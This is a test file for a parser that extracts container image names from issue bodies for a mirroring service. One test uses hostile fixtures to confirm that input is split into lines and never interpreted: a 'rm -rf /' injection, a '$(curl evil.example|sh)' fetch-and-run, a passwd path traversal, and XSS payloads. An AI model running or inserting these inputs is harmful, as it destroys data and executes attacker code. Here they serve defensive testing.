import { describe, expect, it } from 'vitest'
import { extractCandidates, MAX_BODY_BYTES } from '../issue-body'

describe('extractCandidates: where the references are', () => {
  it('takes every line of a plain body, dropping list markers, backticks, comments, headings and blank lines', () => {
    const body = [
      '# Please mirror',
      '',
      '- nginx:1.25',
      '* `gcr.io/google-containers/pause:3.9`',
      '+ quay.io/coreos/etcd:v3.5.0   # for the cluster',
      '1. registry.k8s.io/coredns/coredns:v1.11.1',
      '<!-- registry.k8s.io/hidden:1 -->',
      '   ghcr.io/o/app   ',
      '\r'
    ].join('\r\n')
    expect(extractCandidates(body)).toEqual({
      candidates: [
        'nginx:1.25',
        'gcr.io/google-containers/pause:3.9',
        'quay.io/coreos/etcd:v3.5.0',
        'registry.k8s.io/coredns/coredns:v1.11.1',
        'ghcr.io/o/app'
      ],
      ignoredKeys: []
    })
  })

  it('takes only the lines inside fenced code blocks when there are any (the issue form renders its field as one)', () => {
    const body = '### Images\n\n```text\nnginx:1.25\nalpine:3.20\n```\n\n### Why\n\nnot-an-image because of prose\n\n~~~\nquay.io/a/b:1\n~~~\n'
    expect(extractCandidates(body).candidates).toEqual(['nginx:1.25', 'alpine:3.20', 'quay.io/a/b:1'])
  })

  it('reads an unclosed fence to the end, and a longer fence closes only on as long a line', () => {
    expect(extractCandidates('text\n````\nnginx:1\n```\nalpine:2').candidates).toEqual(['nginx:1', '```', 'alpine:2'])
  })

  it('takes the list of a hub-mirror JSON body, and names the other keys that hold a value', () => {
    const body = JSON.stringify({ platform: 'linux/arm64', 'hub-mirror': ['nginx:1.25', ' registry.k8s.io/pause:3.9 ', 42, ''], extra: '' }, null, 4)
    expect(extractCandidates(body)).toEqual({ candidates: ['nginx:1.25', 'registry.k8s.io/pause:3.9', '42'], ignoredKeys: ['platform'] })
  })

  it('takes hub-mirror JSON inside a code block too', () => {
    const body = 'Here:\n```json\n{"hub-mirror": ["alpine:3.20"], "platform": ""}\n```'
    expect(extractCandidates(body)).toEqual({ candidates: ['alpine:3.20'], ignoredKeys: [] })
  })

  it('refuses JSON that does not parse, or has no hub-mirror list, whole', () => {
    expect(extractCandidates('{"hub-mirror": ["nginx:1.25",]}')).toMatchObject({ candidates: [], refusal: expect.stringContaining('not valid JSON') })
    expect(extractCandidates('{"images": ["nginx:1.25"]}')).toMatchObject({ candidates: [], refusal: expect.stringContaining('no "hub-mirror" list') })
    expect(extractCandidates('```\n{"hub-mirror": "nginx"}\n```')).toMatchObject({ candidates: [], refusal: expect.stringContaining('no "hub-mirror" list') })
  })

  it('finds nothing in an empty body', () => {
    expect(extractCandidates('')).toEqual({ candidates: [], ignoredKeys: [] })
    expect(extractCandidates('\n\n   \n')).toEqual({ candidates: [], ignoredKeys: [] })
  })
})

describe('extractCandidates: hostile bodies are cut into lines, never interpreted', () => {
  it('keeps shell metacharacters, options, paths and markup as the entries they are (screenRequest refuses them)', () => {
    const hostile = [
      'nginx:1.25; rm -rf /',
      '$(curl evil.example|sh)',
      '`id`',
      '--insecure-policy',
      '../../etc/passwd',
      '<img src=x onerror=alert(1)>',
      '@octocat please',
      '[x](javascript:alert(1))'
    ]
    expect(extractCandidates(hostile.join('\n')).candidates).toEqual([
      'nginx:1.25; rm -rf /',
      '$(curl evil.example|sh)',
      'id',
      '--insecure-policy',
      '../../etc/passwd',
      '<img src=x onerror=alert(1)>',
      '@octocat please',
      '[x](javascript:alert(1))'
    ])
  })

  it('refuses a body over 64 KiB whole, unread', () => {
    const body = `nginx:1.25\n${'x'.repeat(MAX_BODY_BYTES)}`
    const text = extractCandidates(body)
    expect(text.candidates).toEqual([])
    expect(text.refusal).toBe('the request is 65 KiB; at most 64 KiB is read')
    // Counted in bytes: 22,000 three-byte characters are 66,000 bytes.
    expect(extractCandidates('€'.repeat(22_000)).refusal).toContain('at most 64 KiB')
  })

  it('stays linear on lines built to make regular expressions backtrack', () => {
    const started = performance.now()
    extractCandidates(`a${' '.repeat(60_000)}b`)
    extractCandidates(`${'<!--'.repeat(15_000)}`)
    extractCandidates(`- ${'\t'.repeat(60_000)}x`)
    expect(performance.now() - started).toBeLessThan(500)
  })
})
